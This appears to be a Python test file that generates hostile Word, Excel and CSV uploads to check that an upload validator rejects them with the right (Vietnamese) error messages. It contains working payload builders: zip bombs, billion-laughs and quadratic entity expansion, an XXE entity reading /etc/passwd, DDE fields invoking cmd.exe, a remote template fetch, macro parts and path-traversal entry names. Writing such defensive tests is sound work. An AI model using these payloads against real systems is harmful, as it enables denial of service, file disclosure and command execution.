"""Word and Excel files that unpack without end, run, call home, or lie about themselves."""

import io
import struct
import zipfile
from typing import Any

from tests.drills.hostile_files.base import Hostile
from tests.kernel.uploads import given

RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{}]>'
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{}</w:document>'
LARGE, RUNS, BROKEN, LOCKED = "giải nén ra quá lớn", "macro hoặc chương trình", "bị hỏng", "mật khẩu"
OUTSIDE, NO_SHEET = "gọi ra ngoài", "hỏng hoặc không đúng"


def docx(parts: dict[str, Any]) -> bytes:
    return given.archive(given.DOCX | {"word/document.xml": WORD.format("<w:p/>")} | parts)


def xlsx(parts: dict[str, Any] | None = None) -> bytes:
    """A workbook as openpyxl writes it, with some parts replaced or added."""
    from openpyxl import Workbook

    plain, made = io.BytesIO(), io.BytesIO()
    Workbook().save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name not in (parts or {}):
                target.writestr(name, source.read(name))
        for name, content in (parts or {}).items():
            target.writestr(name, content)
    return made.getvalue()


def sheet(rows: str, after: str = "", dimension: str = "A1", before: str = "") -> dict[str, str]:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    body = f'<dimension ref="{dimension}"/><sheetData>{rows}</sheetData>{after}'
    return {"xl/worksheets/sheet1.xml": f'{before}<worksheet xmlns="{space}">{body}</worksheet>'}


def text_cell(text: str, place: str = "A1") -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def many_sheets() -> bytes:
    one = '<sheet xmlns:r="{0}" name="{1}" sheetId="{1}" r:id="rId1"/>'
    listed = "".join(one.format(OFFICE, n) for n in range(1, 40_000))
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return xlsx({"xl/workbook.xml": f'<workbook xmlns="{space}"><sheets>{listed}</sheets></workbook>'})


def crowded(part: str, root: str, one: str, times: int) -> bytes:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    inner = root.partition("/")[2]
    body = f"<{inner}>{one * times}</{inner}>" if inner else one * times
    outer = root.partition("/")[0]
    return xlsx({part: f'<{outer} xmlns="{space}">{body}</{outer}>'})


def nested() -> bytes:
    inside = b"\0" * 5_000_000
    for _ in range(8):
        inside = given.archive({f"{n}.zip": inside for n in range(10)})
    return docx({"word/embeddings/1.zip": inside})


def overlapping() -> bytes:
    """Many entries of the table of contents that share one compressed part (Fifield's bomb)."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in given.DOCX.items():
            archive.writestr(name, content)
        archive.writestr("word/document.xml", b" " * 900_000)
        same = archive.getinfo("word/document.xml")
        for number in range(1500):
            twin = zipfile.ZipInfo(f"word/{number}.xml")
            for field in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(twin, field, getattr(same, field))
            archive.filelist.append(twin)
    return made.getvalue()


def holds_itself() -> bytes:
    """An archive one of whose parts is the archive itself: unpacking it leads in a circle."""
    made = bytearray(given.docx())
    directory = made.find(b"PK\x01\x02")
    head = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, 0, directory, directory, 9, 0)
    entry = struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, directory, directory, 9, 0, 0, 0, 0, 0, 0)
    assert len(head) == 30
    made[directory:directory] = b"PK\x01\x02" + entry + b"self.docx"
    end = made.find(b"PK\x05\x06")
    count = struct.unpack_from("<H", made, end + 10)[0] + 1
    size = struct.unpack_from("<I", made, end + 12)[0] + 46 + 9
    struct.pack_into("<HHI", made, end + 8, count, count, size)
    return bytes(made)


def locked(content: bytes) -> bytes:
    made = bytearray(content)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(mark)
        while place >= 0:
            made[place + at] |= 1
            place = made.find(mark, place + 4)
    return bytes(made)


def packed_strangely() -> bytes:
    made = bytearray(xlsx())
    for mark, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        place = made.find(mark)
        while place >= 0:
            made[place + at] = 97  # a way of packing that nobody here knows
            place = made.find(mark, place + 4)
    return bytes(made)


def remote_template() -> bytes:
    there = f'<Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="http://10.0.0.9/x.dotm" '
    return docx({"word/_rels/settings.xml.rels": RELS.format(there + 'TargetMode="External"/>')})


def dde() -> dict[str, Any]:
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    link = f'<externalLink xmlns="{space}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return {"xl/externalLinks/externalLink1.xml": link}


FAR = "".join(f'<row r="{n}">{text_cell("x", f"XFD{n}")}</row>' for n in range(1, 5000))
FIELD = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
QUADRATIC = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l11 "{"a" * 100_000}">]>'
JOINED = '<mergeCell ref="A1:B1"/>'
STYLES = "xl/styles.xml"
SHARED = "xl/sharedStrings.xml"
OVERFLOW = '<row r="1"><c r="A1" s="1"><v>1e308</v></c><c r="B1" t="d"><v>9999-99-99</v></c></row>'

ARCHIVES = {
    "50 MB of blanks in a sheet": Hostile(lambda: xlsx(sheet(" " * 50_000_000)), "a.xlsx", LARGE),
    "archives in archives": Hostile(nested, "a.docx"),
    "1,500 entries that share their bytes": Hostile(overlapping, "a.docx", LARGE),
    "an archive that holds itself": Hostile(holds_itself, "a.docx", BROKEN),
    "docx with a macro": Hostile(lambda: docx({"word/vbaProject.bin": b"x"}), "a.docx", RUNS),
    "xlsx with a macro": Hostile(lambda: xlsx({"xl/vbaProject.bin": b"x"}), "a.xlsx", RUNS, "macro"),
    "xlsx with an old macro sheet": Hostile(lambda: xlsx({"xl/macrosheets/s1.xml": "<a/>"}), "a.xlsx", RUNS, "macro"),
    "docx that fetches its template": Hostile(remote_template, "a.docx", OUTSIDE),
    "xlsx that asks another program": Hostile(lambda: xlsx(dde()), "a.xlsx", OUTSIDE),
    "docx that asks another program": Hostile(
        lambda: docx({"word/document.xml": WORD.format(FIELD)}), "a.docx", OUTSIDE
    ),
    "a billion laughs in a sheet": Hostile(
        lambda: xlsx(sheet(f'<row r="1">{text_cell("&l11;")}</row>', before=DOCTYPE.format(LAUGHS))),
        "a.xlsx", BROKEN, NO_SHEET,
    ),
    "a billion laughs in a letter": Hostile(
        lambda: docx({"word/document.xml": DOCTYPE.format(LAUGHS) + WORD.format("&l11;")}), "a.docx", BROKEN
    ),
    "one long entity many times": Hostile(
        lambda: xlsx(sheet(f'<row r="1">{text_cell("&l11;" * 5000)}</row>', before=QUADRATIC)),
        "a.xlsx", BROKEN, NO_SHEET,
    ),
    "a sheet that reads a file of the server": Hostile(
        lambda: xlsx(sheet(f'<row r="1">{text_cell("&e;")}</row>', before=XXE)), "a.xlsx", BROKEN, NO_SHEET
    ),
    "a letter in UTF-16 that reads a file": Hostile(
        lambda: docx({"word/document.xml": (XXE.partition("?>")[2] + WORD.format("&e;")).encode("utf-16")}),
        "a.docx", BROKEN,
    ),
    "40,000 sheets": Hostile(many_sheets, "a.xlsx", None, LARGE),
    "a million cells in a row": Hostile(
        lambda: xlsx(sheet(f'<row r="1">{"<c><v>1</v></c>" * 1_000_000}</row>')), "a.xlsx", LARGE, LARGE
    ),
    "a sheet that says it is enormous": Hostile(
        lambda: xlsx(sheet(f'<row r="1">{text_cell("x")}</row>', dimension="A1:XFD1048576")), "a.xlsx"
    ),
    "5,000 rows with a cell in the last column": Hostile(lambda: xlsx(sheet(FAR)), "a.xlsx"),
    "one cell in the last row": Hostile(
        lambda: xlsx(sheet(f'<row r="1048576">{text_cell("x", "A1048576")}</row>')), "a.xlsx", None, "dài quá 5000"
    ),
    "100,000 styles": Hostile(
        lambda: crowded(STYLES, "styleSheet/cellXfs", "<xf/>", 100_000), "a.xlsx", None, LARGE
    ),
    "two million shared strings": Hostile(
        lambda: crowded(SHARED, "sst", "<si><t>a</t></si>", 2_000_000), "a.xlsx", LARGE, LARGE
    ),
    "100,000 joined cells": Hostile(
        lambda: xlsx(sheet("", after=f"<mergeCells>{JOINED * 100_000}</mergeCells>")),
        "a.xlsx", LARGE, LARGE,
    ),
    "100,000 elements one in another": Hostile(
        lambda: xlsx(sheet("<a>" * 100_000 + "</a>" * 100_000)), "a.xlsx", None, LARGE
    ),
    "days and numbers that are none": Hostile(lambda: xlsx(sheet(OVERFLOW)), "a.xlsx", None, NO_SHEET),
    "attributes nobody knows": Hostile(
        lambda: crowded(STYLES, "styleSheet/cellXfs", '<xf zzz="1" fontId="-9"/>', 3), "a.xlsx", None, NO_SHEET
    ),
    "parts that climb out of their folder": Hostile(
        lambda: docx({"../../../../tmp/nth-x": "x", "/etc/nth-x": "x", "..\\..\\nth-x.txt": "x"}), "a.docx"
    ),
    "a locked letter": Hostile(lambda: locked(given.docx()), "a.docx", LOCKED),
    "a locked sheet": Hostile(lambda: locked(xlsx()), "a.xlsx", LOCKED, LOCKED),
    "packed in a way nobody knows": Hostile(packed_strangely, "a.xlsx", BROKEN, NO_SHEET),
    "an old Office file called docx": Hostile(lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, "a.docx", LOCKED),
    "an old Office file called xlsx": Hostile(lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, "a.xlsx", LOCKED, LOCKED),
    "half a sheet": Hostile(lambda: xlsx()[:2500], "a.xlsx", BROKEN, "không phải"),
    "nothing": Hostile(lambda: b"", "a.xlsx", "rỗng", "không phải"),
    "a csv with a cell without end": Hostile(lambda: b'a,b\n"' + b"x" * 300_000, "a.csv", "Chỉ nhận", "quá dài"),
    "a csv of old line ends and NUL": Hostile(lambda: b"a,b\rc\0,d\r\xef\xbb\xbf", "a.csv", "Chỉ nhận"),
    "a csv of broken bytes": Hostile(lambda: b"\xff\xfe\x00\xd8" * 5 + b"x", "a.csv", "Chỉ nhận", "UTF-8"),
}  # fmt: skip
